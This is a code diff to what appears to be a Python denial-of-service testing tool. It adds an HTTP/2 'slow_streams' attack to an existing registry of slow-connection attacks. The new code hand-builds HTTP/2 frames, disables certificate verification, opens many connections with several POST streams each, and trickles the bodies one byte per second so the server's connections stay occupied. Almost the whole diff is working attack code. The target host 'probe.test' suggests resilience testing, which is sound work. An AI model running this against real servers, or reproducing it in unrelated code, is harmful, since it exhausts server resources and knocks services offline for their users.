@@ -12,11 +12,14 @@ import asyncio
 import base64
 import json
 import os
+import ssl
+import struct
 import subprocess
 import sys
 from collections import Counter
 from collections.abc import Awaitable, Callable
 from itertools import cycle
+from typing import Any
 
 HOST = "probe.test"
 ECHO = "/live/echo"
@@ -38,13 +41,14 @@ class Attack:
         self.sources = cycle(addresses())
         self.ends: Counter[str] = Counter()
         self.opening = asyncio.Semaphore(TOGETHER)
+        self.tls: dict[str, Any] = {}
 
     async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
         """Open one connection from the next address."""
         async with self.opening:
-            return await asyncio.wait_for(
-                asyncio.open_connection(*self.target, local_addr=(next(self.sources), 0)), 20
-            )
+            source = (next(self.sources), 0)
+            opening = asyncio.open_connection(*self.target, local_addr=source, **self.tls)
+            return await asyncio.wait_for(opening, 20)
 
     async def many(self, count: int, one: Callable[[], Awaitable[str]]) -> None:
         """Run `one` so many times side by side and count the ends that it returns."""
@@ -106,6 +110,41 @@ async def slow_body(attack: Attack, count: int, seconds: float) -> None:
     """Announce a body and send it byte by byte."""
     head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n".encode()
     await drip(attack, count, seconds, head, b"x")
+
+
+def frame2(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """Return a frame of HTTP/2 (RFC 9113, 4.1)."""
+    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload
+
+
+async def slow_streams(attack: Attack, count: int, seconds: float, streams: int, host: str) -> None:
+    """Over HTTP/2, begin so many POSTs on each connection and send their bodies byte by byte."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    attack.tls = {"ssl": context, "server_hostname": host}
+    name = host.encode()
+    # POST, https and / stand in HPACK's table (RFC 7541, appendix A), the authority is told as it is
+    headers = b"\x83\x87\x84\x01" + bytes([len(name)]) + name
+    numbers = range(1, 2 * streams, 2)
+
+    async def one() -> str:
+        reader, writer = await attack.connect()
+        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame2(4, 0, 0) + frame2(4, 1, 0))
+        writer.write(b"".join(frame2(1, 4, number, headers) for number in numbers))
+        end = asyncio.create_task(reader.read())
+        try:
+            for _ in range(int(seconds)):
+                writer.write(b"".join(frame2(0, 0, number, b"x") for number in numbers))
+                await writer.drain()
+                await asyncio.sleep(1)  # the slowness is the attack
+        except OSError:
+            return "closed"
+        finally:
+            writer.close()
+        return "closed" if end.done() else "held"
+
+    await attack.many(count, one)
 
 
 async def silent(attack: Attack, count: int, seconds: float) -> None:
@@ -200,6 +239,7 @@ async def pings(attack: Attack, count: int, seconds: float, each: int) -> None:
 ATTACKS: dict[str, Callable[..., Awaitable[None]]] = {
     "slow_headers": slow_headers,
     "slow_body": slow_body,
+    "slow_streams": slow_streams,
     "silent": silent,
     "handshakes": handshakes,
     "frames": frames,
